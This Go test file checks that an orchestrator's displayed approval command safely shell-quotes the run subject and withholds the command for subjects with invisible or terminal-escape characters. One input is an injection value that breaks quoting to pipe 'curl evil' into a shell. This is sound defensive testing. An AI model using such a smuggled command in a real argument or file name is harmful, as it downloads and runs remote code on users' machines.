package tasks

import (
	"strings"
	"testing"

	"repute"
	"repute/orchestrator/control"
)

// TestAnswersAreSafeCommands: the command that answers an approval quotes its whole subject, and is left out where a
// reader could not see what it does.
func TestAnswersAreSafeCommands(t *testing.T) {
	t.Parallel()
	for subject, want := range map[string]string{
		"policy":                  "repute task approve run1 --subject policy [--deny] [--reason …]",
		"a';curl evil|sh;'/pay:1": `--subject 'a'\'';curl evil|sh;'\''/pay:1' [--deny]`,
		"a\u200bb":                "no command is offered",
		"a\x1b[201~b":             "no command is offered",
	} {
		r := shownRun{Run: control.Run{RunLine: control.RunLine{ID: "run1", Status: repute.RunRunning,
			Awaiting: "policy"},
			Awaited: []control.Awaited{{Subject: subject}}}}
		_, answer, _ := strings.Cut(r.text(), "\nanswer   ")
		answer, _, _ = strings.Cut(answer, "\n")
		if !strings.Contains(answer, want) || strings.ContainsAny(answer, "\u200b\x1b") {
			t.Errorf("%q: %q", subject, answer)
		}
	}
}
